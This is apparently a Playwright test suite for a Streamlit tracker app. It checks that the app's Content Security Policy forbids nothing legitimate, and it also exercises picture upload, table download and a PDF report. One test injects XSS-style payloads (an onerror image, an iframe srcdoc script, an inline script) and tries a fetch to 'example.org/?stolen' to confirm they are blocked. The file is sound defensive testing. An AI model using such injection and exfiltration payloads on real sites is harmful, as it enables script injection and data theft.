"""Every room in a real browser, under the rules that its headers give: nothing of it is forbidden by them."""

from __future__ import annotations

import re
from contextlib import suppress
from pathlib import Path

import pytest
from PIL import Image
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page, TimeoutError, expect

from tests.browser.conftest import patient
from tests.conftest import AN, FACILITATOR
from tracker.web.front import PAGES

_TELL = """document.addEventListener("securitypolicyviolation", (told) =>
  console.error(`FORBIDDEN ${told.effectiveDirective} ${told.blockedURI} ${told.sourceFile}:${told.lineNumber}`));
delete window.showSaveFilePicker;  // a file dialog nobody could answer here; without it a table is saved as in other browsers
"""
# Streamlit's protobuf tries WebAssembly once for long numbers and does without: allowed would be more than is needed.
_KNOWN = re.compile(r"FORBIDDEN script-src wasm-eval .*/static/js/protobuf\.")
_FURTHER = (
    "initiative?initiative=INI-05", "report?gathering=GAT-02", "report?gathering=GAT-01&edit=1", "meeting?present=1", "traces",
)  # fmt: skip


@pytest.fixture
def forbidden() -> list[str]:
    return []


def _opened(chromium: Browser, address: str, seat: str, forbidden: list[str]) -> tuple[BrowserContext, Page]:
    context = chromium.new_context(base_url=address, locale="nl-BE", viewport={"width": 1280, "height": 900})
    context.add_init_script(_TELL)

    def heard(message: ConsoleMessage) -> None:
        if re.search("FORBIDDEN|Content Security Policy", message.text) and not _KNOWN.search(message.text):
            forbidden.append(f"{message.text[:300]} on {page.url}")

    page = patient(context.new_page())
    page.on("console", heard)
    page.goto(f"/as/{seat}")
    return context, page


def _look(page: Page, address: str) -> None:
    page.goto(f"/{address}")
    page.wait_for_selector("[data-testid=stApp][data-test-script-state=notRunning]", timeout=30_000)
    for folded in ("details:not([open]) > summary:visible", "[data-testid=stPopover] button:visible"):
        one = page.locator(folded)
        if one.count() and not page.locator("[data-testid=stDialog]").count():
            one.first.click()
            page.keyboard.press("Escape")


def test_nothing_in_any_room_is_forbidden_by_our_own_headers(
    spoor: tuple[str, Path], chromium: Browser, forbidden: list[str]
) -> None:
    context, page = _opened(chromium, spoor[0], AN, forbidden)
    for room in [*sorted(PAGES), *_FURTHER]:
        _look(page, room)
    context.close()
    assert not forbidden


def test_a_script_that_slipped_into_a_page_does_not_run(
    spoor: tuple[str, Path], chromium: Browser, forbidden: list[str]
) -> None:
    context, page = _opened(chromium, spoor[0], AN, forbidden)
    _look(page, "account")
    page.evaluate(
        """() => { const slipped = document.createElement("div");
        slipped.innerHTML = '<img src="x" onerror="window.ran = 1"><iframe srcdoc="<script>parent.ran = 1</script>"></iframe>';
        const script = document.createElement("script"); script.textContent = "window.ran = 1";
        document.body.append(slipped, script); }"""
    )
    page.wait_for_timeout(500)
    assert page.evaluate("window.ran") is None
    assert forbidden
    told = "fetch('https://example.org/?stolen').then(() => 'sent', () => 'not sent')"
    assert page.evaluate(told) == "not sent"
    context.close()


def test_pictures_come_in_a_table_goes_out_and_a_paper_is_shown_under_these_rules(
    spoor: tuple[str, Path], chromium: Browser, forbidden: list[str], tmp_path: Path
) -> None:
    context, page = _opened(chromium, spoor[0], FACILITATOR, forbidden)
    Image.new("RGB", (800, 600), "teal").save(tmp_path / "zaal.jpg")
    _look(page, "report?gathering=GAT-05&edit=1")
    page.locator("input[type=file]").set_input_files(tmp_path / "zaal.jpg")
    expect(page.locator("img[src^='/picture/']")).to_have_count(1, timeout=30_000)
    expect(page.locator("img[src^='/picture/']")).not_to_have_js_property("naturalWidth", 0)

    _look(page, "funders")
    page.locator("[data-testid=stPopover] button:visible").filter(has_text="Als tabel").first.wait_for(timeout=30_000)
    for table in page.locator("[data-testid=stPopover] button:visible").filter(has_text="Als tabel").all():
        table.click()
        grid = page.locator("[data-testid=stDataFrame]:visible")
        with suppress(TimeoutError):  # not every table is one to scroll in
            grid.first.wait_for(timeout=5_000)
        if grid.count():
            grid.first.hover()
            with page.expect_download() as saved:
                page.locator("[data-testid=stElementToolbarButton]:visible button").nth(1).click()
            assert saved.value.path().read_text("utf-8")
            break
        page.keyboard.press("Escape")
    else:
        pytest.fail("there is no table to save")

    paper = page.goto("/paper/report/GAT-02.pdf?lang=nl")
    assert paper
    assert paper.status == 200
    page.wait_for_timeout(500)
    context.close()
    assert not forbidden
